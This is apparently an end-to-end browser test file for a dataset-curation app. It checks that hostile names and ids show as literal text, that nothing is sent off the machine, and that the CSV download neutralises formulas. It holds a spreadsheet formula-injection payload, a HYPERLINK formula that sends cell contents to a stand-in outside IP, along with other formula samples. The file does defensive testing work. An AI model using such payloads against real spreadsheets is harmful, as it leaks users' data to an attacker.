"""Hostile project and annotator names, example ids, message names and file names on every page,
in a real browser: each shows as its text, makes no image, link or formula, and nothing leaves
127.0.0.1. Also: the Browse CSV download neutralises formulas and the tables export nothing.
"""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from curation.store import Store
from tests.e2e.helpers import fill, off_machine, shown, wait_idle, watch_requests
from tests.e2e.hostile import hostile, without_slashes
from tests.legacy import legacy_project

pytestmark = pytest.mark.e2e

PROJECT = without_slashes("Proj")  # project names become file names: no separators
USER = hostile("user")
FILE_NAME = without_slashes("File") + ".jsonl"
KEPT, DUP = hostile("kept"), hostile("dup")
MESSAGE_NAME = hostile("msgname")
HYPERLINK = '=HYPERLINK("http://203.0.113.7/?leak="&A1,"open me")'


def _records() -> bytes:
    question = {"role": "user", "content": "How long do I boil an egg?", "name": MESSAGE_NAME}
    answer = {"role": "assistant", "content": "Nine minutes in boiling water."}
    rows = [
        {"id": KEPT, "messages": [question, answer]},
        {"id": DUP, "messages": [question, answer]},
        {
            "id": "formula",
            "messages": [
                {"role": "user", "content": HYPERLINK},
                {"role": "assistant", "content": "+1 and @SUM(A1)"},
            ],
        },
    ]
    return "".join(json.dumps(r) + "\n" for r in rows).encode("utf-8")


def assert_inert(page: Any, url: str, requests: list[str], *texts: str) -> None:
    """Every text is shown literally; nothing on the page became an image, a link or a formula.

    The texts are waited for (a rerun may still be drawing the page), up to 30 seconds.
    """
    deadline = time.monotonic() + 30
    while True:
        body = shown(page.get_by_test_id("stApp").inner_text())
        missing = [t for t in texts if shown(t) not in body]
        if not missing or time.monotonic() > deadline:
            break
        page.wait_for_timeout(300)
    assert not missing, f"not shown literally: {missing}\n--- page text:\n{body[:3000]}"
    assert page.locator("[data-testid=stApp] img").count() == 0
    hrefs = page.evaluate("() => [...document.querySelectorAll('a')].map(a => a.href)")
    assert [h for h in hrefs if not h.startswith(url)] == []
    assert page.locator(".katex").count() == 0
    # the pages' own help has code spans (`save_to_disk`); none may come from the names
    codes = page.locator("[data-testid=stMarkdownContainer] code").all_inner_texts()
    assert not {"tick", "c"} & set(codes), codes
    assert off_machine(requests, url) == []


def _go(page: Any, link: str) -> None:
    page.get_by_test_id("stSidebarNav").get_by_role("link", name=link).click()
    wait_idle(page)


def test_hostile_names_and_ids_show_literally_on_every_page(
    page, app_url: str, app_home: Path, tmp_path: Path
) -> None:
    url = app_url
    requests = watch_requests(page)
    page.goto(url)
    page.get_by_label("Annotator name", exact=True).wait_for()
    wait_idle(page)
    for label, value in (("Annotator name", USER), ("Project name", PROJECT)):
        if label == "Project name" and not page.get_by_label(label, exact=True).is_visible():
            page.get_by_text("New project", exact=True).click()
        box = page.get_by_label(label, exact=True)
        box.fill(value)
        box.press("Enter")
        wait_idle(page)
    page.get_by_role("button", name="Create project").click()
    wait_idle(page)
    # today's name rule refuses the name, and the refusal quotes it literally ...
    assert_inert(page, url, requests, f"The project name '{PROJECT[:50]}")
    # ... but a database made before the rule can hold it: every page must stay inert for it
    store = Store(f"sqlite:///{app_home / 'curation.db'}")
    legacy_project(store, PROJECT)
    store.dispose()
    page.reload()
    page.get_by_label("Annotator name", exact=True).wait_for()
    wait_idle(page)
    fill(page, "Annotator name", USER)
    wait_idle(page)
    assert_inert(page, url, requests, f"{PROJECT} · 0 examples")

    # Import: the file name, ids and message name in the preview, the button and the summary
    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(
        files=[{"name": FILE_NAME, "mimeType": "application/json", "buffer": _records()}]
    )
    wait_idle(page)
    page.get_by_role("button", name="Import ").wait_for()
    assert_inert(
        page, url, requests, FILE_NAME, f"id {KEPT}", f"user · {MESSAGE_NAME}", "examples into"
    )
    assert shown(PROJECT) in shown(page.get_by_role("button", name="Import ").inner_text())
    page.get_by_role("button", name="Import ").click()
    page.get_by_role("heading", name="Last import").wait_for(timeout=60_000)  # a background job
    wait_idle(page)
    assert_inert(
        page, url, requests, f"{FILE_NAME}: imported 3 examples", f"Imports into {PROJECT} (1)"
    )
    assert_inert(page, url, requests, f"{PROJECT} · 3 examples")

    # Browse: the example's id and source; the CSV download neutralises formulas
    _go(page, "Browse")
    assert_inert(page, url, requests, f"Example {KEPT}", f"source {FILE_NAME}")
    with page.expect_download() as info:
        page.get_by_role("button", name="Download the matching examples as CSV").click()
    download = info.value
    assert "/" not in download.suggested_filename and download.suggested_filename.endswith(
        "-examples.csv"
    )
    saved = tmp_path / "examples.csv"
    download.save_as(saved)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(saved.read_text("utf-8-sig")))}
    assert rows["formula"]["prompt"] == "'" + HYPERLINK
    assert rows["formula"]["answer"] == "'+1 and @SUM(A1)"
    assert set(rows) == {KEPT, DUP, "formula"}
    # the table's own toolbar offers no CSV export (it would write live formulas)
    table = page.get_by_test_id("stDataFrame").first
    table.hover()
    page.wait_for_timeout(500)
    assert page.get_by_role("button", name="Download as CSV").count() == 0

    # Deduplicate: the run's author, the kept id in the toast
    _go(page, "Deduplicate")
    page.get_by_role("radiogroup", name="Method").get_by_text("exact", exact=True).click()
    page.get_by_role("button", name="Find duplicates").click()
    wait_idle(page)
    page.get_by_text("Cluster 1 · 2 examples").wait_for()
    assert_inert(page, url, requests, f"by {USER}")
    page.get_by_role("button", name="Resolve cluster").click()
    toast = page.get_by_test_id("stToast").filter(has_text="the others are marked duplicate")
    toast.first.wait_for()
    assert shown(f"Kept {KEPT}; the others are marked duplicate") in shown(toast.first.inner_text())
    wait_idle(page)
    assert_inert(page, url, requests)

    # Browse the duplicate: it names the kept example, and its button opens it
    _go(page, "Browse")
    box = page.get_by_label("Open an example by id", exact=True)
    box.fill(DUP)
    box.press("Enter")
    wait_idle(page)
    assert_inert(page, url, requests, f"Example {DUP}", f"duplicate of {KEPT}")
    button = page.get_by_role("button", name="Open the kept example")
    assert shown(button.inner_text()) == shown(f"Open the kept example {KEPT}")

    # Export, download only: a safe file name and no temporary path in the message
    _go(page, "Export")
    page.get_by_role("button", name="Export", exact=True).click()
    wait_idle(page, timeout=60_000)
    success = shown(page.get_by_test_id("stAlertContentSuccess").first.inner_text())
    assert "are ready to download as" in success and "/tmp" not in success
    with page.expect_download() as info:
        page.get_by_role("button", name="Download zip").click()
    name = info.value.suggested_filename
    assert name.endswith(".zip") and name in success
    assert not set(name) & set('/\\<>:"|?*')
    saved = tmp_path / "export.zip"
    info.value.save_as(saved)
    assert {n.split("/", 1)[0] for n in zipfile.ZipFile(saved).namelist()} == {name[: -len(".zip")]}
    assert_inert(page, url, requests)

    # Activity: every event names its author literally
    _go(page, "Activity & undo")
    assert_inert(page, url, requests, f"· {USER} ·", "export")
